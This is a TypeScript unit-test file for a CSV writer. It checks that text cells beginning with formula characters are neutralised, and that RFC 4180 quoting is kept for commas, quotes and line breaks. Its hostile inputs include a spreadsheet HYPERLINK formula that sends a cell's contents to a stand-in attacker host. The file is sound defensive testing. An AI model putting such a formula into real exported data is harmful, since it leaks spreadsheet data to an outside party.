import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseCsv, toCsv } from './csv.ts';

describe('the CSV we write', () => {
  it('neutralises every text cell a spreadsheet would run as a formula (=, +, -, @, tab, CR), numbers left as they are', () => {
    const hostile = ['=HYPERLINK("https://evil.example/?d="&A2,"voir")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const text = toCsv(['external_id', 'qf'], [...hostile.map((h) => [h, 1234]), ['ordinaire', -5]]);
    const rows = parseCsv(text.replace(/\r\n$/, ''));
    for (const line of text.split('\r\n').slice(1, -2)) assert.match(line, /^"'/, line);
    assert.deepEqual(rows.slice(0, 4).map((r) => r.external_id), hostile.slice(0, 4).map((h) => `'${h}`));
    assert.match(text, /\r\nordinaire,-5\r\n$/);
  });

  it('keeps RFC 4180 quoting for commas, quotes and line breaks', () => {
    assert.equal(toCsv(['a'], [['x, "y"'], ['z\nw'], [null]]), 'a\r\n"x, ""y"""\r\n"z\nw"\r\n\r\n');
  });
});
